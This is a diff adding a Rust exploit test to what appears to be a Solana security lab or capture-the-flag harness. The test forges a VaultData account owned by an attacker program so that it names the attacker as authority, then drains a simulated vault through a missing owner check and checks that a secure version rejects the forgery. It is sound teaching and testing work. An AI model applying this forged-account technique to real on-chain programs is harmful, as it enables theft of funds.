@@ -0,0 +1,179 @@
+//! A VaultData account the attacker wrote names them the authority of the
+//! real vault
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::to_vec;
+use lab_instructions::missing_owner_check::withdraw_ix;
+use lab_svm::{Signer, Svm, LAMPORTS_PER_SOL};
+use missing_owner_check::VaultData;
+use solana_common::access_control::{Member, Role};
+use solana_common::pausable::{PauseState, WithdrawCap};
+use solana_program::entrypoint::ProcessInstruction;
+
+use super::{deploy, fund, program_account, with_discriminator};
+use crate::ctf::{self, Goal};
+use crate::{attacker, fixtures, owner, vulnerability, Harness, Version};
+
+/// fake VaultData owned by another program names the attacker authority of the
+/// real vault
+#[vulnerability(
+    id = "SOL-002",
+    category = "MissingOwnerCheck",
+    severity = "Critical",
+    difficulty = "Beginner",
+    rejection = "Validation(WrongOwner)",
+    prerequisite = "missing_signer_check",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: owner checks",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/2-owner-checks",
+    ),
+    reference(
+        title = "Neodyme: Solana common pitfalls",
+        url = "https://blog.neodyme.io/posts/solana_common_pitfalls",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(
+            harness,
+            missing_owner_check::process_instruction,
+            to_vault_data,
+        ),
+        Version::Secure => attack(
+            harness,
+            missing_owner_check_secure::process_instruction,
+            to_secure_vault_data,
+        ),
+    }
+}
+
+const VAULT_BALANCE: u64 = 5 * LAMPORTS_PER_SOL;
+/// The secure vault's cap window, a day
+const CAP_WINDOW: i64 = 24 * 60 * 60;
+
+/// VaultData's bytes in each version's layout
+type Encode = fn(VaultData) -> std::io::Result<Vec<u8>>;
+
+fn to_vault_data(data: VaultData) -> std::io::Result<Vec<u8>> {
+    to_vec(&data)
+}
+
+/// The secure VaultData leads with a discriminator, names its authority
+/// treasurer, and is unpaused with a cap the whole balance fits under
+fn to_secure_vault_data(data: VaultData) -> std::io::Result<Vec<u8>> {
+    with_discriminator(&missing_owner_check_secure::VaultData {
+        authority: Member::new(data.authority, Role::TREASURER),
+        vault: data.vault,
+        pause: PauseState::new(data.authority),
+        cap: WithdrawCap::new(VAULT_BALANCE, CAP_WINDOW),
+    })
+}
+
+fn attack(svm: &mut Svm, program: ProcessInstruction, encode: Encode) -> AnyResult<()> {
+    let program_id = deploy(svm, "missing_owner_check", program);
+    let vault = program_account(
+        svm,
+        fixtures::address("missing_owner_check/vault"),
+        &program_id,
+        Vec::new(),
+        VAULT_BALANCE,
+    );
+    let genuine = VaultData {
+        authority: owner().pubkey(),
+        vault,
+    };
+    program_account(
+        svm,
+        fixtures::address("missing_owner_check/vault_data"),
+        &program_id,
+        encode(genuine)?,
+        0,
+    );
+
+    // Written by a program the attacker controls; same layout and
+    // discriminator, their key
+    let attacker_key = fund(svm, &attacker());
+    let attacker_program = fixtures::address("missing_owner_check/attacker_program");
+    let forged = VaultData {
+        authority: attacker_key,
+        vault,
+    };
+    let fake_data = program_account(
+        svm,
+        fixtures::address("missing_owner_check/forged_vault_data"),
+        &attacker_program,
+        encode(forged)?,
+        0,
+    );
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: vault,
+            amount: VAULT_BALANCE,
+        },
+    )?;
+
+    let before = svm.lamports(&attacker_key);
+    svm.send(
+        &[withdraw_ix(
+            program_id,
+            fake_data,
+            vault,
+            attacker_key,
+            attacker_key,
+            VAULT_BALANCE,
+        )],
+        &[&attacker()],
+    )?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= VAULT_BALANCE, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// The vault's authority withdraws from it, naming its genuine data account
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let (program, encode): (ProcessInstruction, Encode) = match harness.version() {
+        Version::Vulnerable => (missing_owner_check::process_instruction, to_vault_data),
+        Version::Secure => (
+            missing_owner_check_secure::process_instruction,
+            to_secure_vault_data,
+        ),
+    };
+    let program_id = deploy(harness, "missing_owner_check", program);
+    let vault = program_account(
+        harness,
+        fixtures::address("missing_owner_check/vault"),
+        &program_id,
+        Vec::new(),
+        VAULT_BALANCE,
+    );
+    let owner_key = fund(harness, &owner());
+    let data = VaultData {
+        authority: owner_key,
+        vault,
+    };
+    let vault_data = program_account(
+        harness,
+        fixtures::address("missing_owner_check/vault_data"),
+        &program_id,
+        encode(data)?,
+        0,
+    );
+
+    harness.send(
+        &[withdraw_ix(
+            program_id,
+            vault_data,
+            vault,
+            owner_key,
+            owner_key,
+            VAULT_BALANCE,
+        )],
+        &[&owner()],
+    )?;
+    Ok(())
+}